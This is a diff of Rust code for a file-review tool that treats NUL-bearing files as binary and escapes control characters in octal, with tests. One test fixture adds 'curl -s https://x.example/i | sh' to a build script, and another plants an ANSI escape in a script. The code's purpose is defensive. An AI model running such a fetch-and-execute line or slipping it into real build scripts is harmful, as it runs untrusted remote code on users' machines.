@@ -186,7 +186,13 @@ const MAX_ESCAPED_BYTES: usize = 256;
 const ESCAPED_BYTES_PER: usize = 8;
 
 /// The note a review carries when a side's invalid bytes are escaped.
-const ESCAPED_NOTE: &str = "\\ bytes that are not UTF-8 are shown as \\ooo (octal), a backslash as \\134\n";
+const ESCAPED_NOTE: &str =
+    "\\ bytes that are not UTF-8 and control characters are shown as \\ooo (octal), a backslash as \\134\n";
+
+/// Whether a file's bytes are text as they are: UTF-8 with no NUL.
+fn is_text(bytes: &[u8]) -> bool {
+    !bytes.contains(&0) && std::str::from_utf8(bytes).is_ok()
+}
 
 /// One side of a change as review text: a symlink's line naming its target,
 /// a file's text (a text file with a few bytes that are not UTF-8 has each
@@ -202,23 +208,35 @@ fn side_text<B: AsRef<[u8]>>(
     if state.is_some_and(|s| s.kind == NodeKind::Symlink) {
         return Some((Some(std::borrow::Cow::Owned(link_line(bytes))), false));
     }
-    if let Ok(text) = std::str::from_utf8(bytes) {
-        return Some((Some(std::borrow::Cow::Borrowed(text)), false));
+    if is_text(bytes) {
+        return std::str::from_utf8(bytes).ok().map(|text| (Some(std::borrow::Cow::Borrowed(text)), false));
     }
     // A file whose other side was text is shown as text whatever it holds
     // now (a text file turned binary is exactly what a reviewer must read);
-    // else only with a few stray bytes.
+    // else only with a few stray bytes and no NUL (a NUL makes a file binary,
+    // as git judges it: an object file is mostly valid UTF-8).
     let invalid: usize = bytes.utf8_chunks().map(|chunk| chunk.invalid().len()).sum();
-    if !other_was_text && (invalid > MAX_ESCAPED_BYTES || invalid.saturating_mul(ESCAPED_BYTES_PER) > bytes.len()) {
+    if !other_was_text
+        && (bytes.contains(&0)
+            || invalid > MAX_ESCAPED_BYTES
+            || invalid.saturating_mul(ESCAPED_BYTES_PER) > bytes.len())
+    {
         return None;
     }
-    // Each byte that is not UTF-8 in octal, and a backslash as `\134`, so an
-    // escape in the text cannot pass for a byte or the reverse.
+    // Each byte that is not UTF-8 and each control character but a newline
+    // or a tab in octal, and a backslash as `\134`, so an escape in the text
+    // cannot pass for a byte or the reverse, and no review of such a file
+    // carries a raw control character to a terminal or an agent.
     let mut text = String::with_capacity(bytes.len() + invalid * 3);
     for chunk in bytes.utf8_chunks() {
         for c in chunk.valid().chars() {
             if c == '\\' {
                 text.push_str("\\134");
+            } else if c.is_control() && c != '\n' && c != '\t' {
+                let mut utf8 = [0u8; 4];
+                for byte in c.encode_utf8(&mut utf8).bytes() {
+                    let _ = write!(text, "\\{byte:03o}");
+                }
             } else {
                 text.push(c);
             }
@@ -274,10 +292,8 @@ pub fn review_entries<B: AsRef<[u8]>, E>(
             let after = side(after_state.is_some(), Side::After)?;
             match (before, after) {
                 (Ok(before), Ok(after)) => {
-                    let is_text = |bytes: &Option<B>| {
-                        bytes.as_ref().is_some_and(|bytes| std::str::from_utf8(bytes.as_ref()).is_ok())
-                    };
-                    let (before_text, after_text) = (is_text(&before), is_text(&after));
+                    let side_is_text = |bytes: &Option<B>| bytes.as_ref().is_some_and(|bytes| is_text(bytes.as_ref()));
+                    let (before_text, after_text) = (side_is_text(&before), side_is_text(&after));
                     match (
                         side_text(before.as_ref(), before_state, after_text),
                         side_text(after.as_ref(), after_state, before_text),
@@ -457,10 +473,32 @@ mod tests {
         assert_eq!(
             by_path("build.sh").unwrap(),
             "--- a/build.sh\n+++ b/build.sh\n@@ -1,2 +1,3 @@\n #!/bin/sh\n echo building\n\
-             +curl -s https://x.example/i | sh # \\377\n\\ bytes that are not UTF-8 are shown as \\ooo (octal), \
-             a backslash as \\134\n"
+             +curl -s https://x.example/i | sh # \\377\n\\ bytes that are not UTF-8 and control characters are \
+             shown as \\ooo (octal), a backslash as \\134\n"
         );
         assert_eq!(by_path("image.bin"), Err(NoHunks::Binary));
+    }
+
+    #[test]
+    fn a_file_holding_a_nul_is_binary_and_a_text_file_turned_so_shows_it_escaped() {
+        let (_dir, mut vfs) = image_with_script();
+        let p = |s: &str| VPath::parse(s).unwrap();
+        // An object file's start: valid UTF-8 all through, NULs and DEL among it.
+        let mut object = b"\x7fELF\x02\x01\x01".to_vec();
+        object.extend(std::iter::repeat_n(0u8, 9));
+        object.extend(b"\x01\0>\0\x01\0\0\0main\0calc.c\0");
+        vfs.write(&p("calc.o"), Arc::from(&object[..])).unwrap();
+        // One NUL in a script: the reviewer reads the script, the NUL escaped.
+        vfs.write(&p("build.sh"), Arc::from(&b"#!/bin/sh\necho building\x1b[2J\0\n"[..])).unwrap();
+        let diff = vfs.canonical_diff().unwrap();
+        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
+        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
+        assert_eq!(by_path("calc.o"), Err(NoHunks::Binary));
+        assert_eq!(
+            by_path("build.sh").unwrap(),
+            "--- a/build.sh\n+++ b/build.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo building\n+echo building\\033[2J\\000\n\
+             \\ bytes that are not UTF-8 and control characters are shown as \\ooo (octal), a backslash as \\134\n"
+        );
     }
 
     #[test]
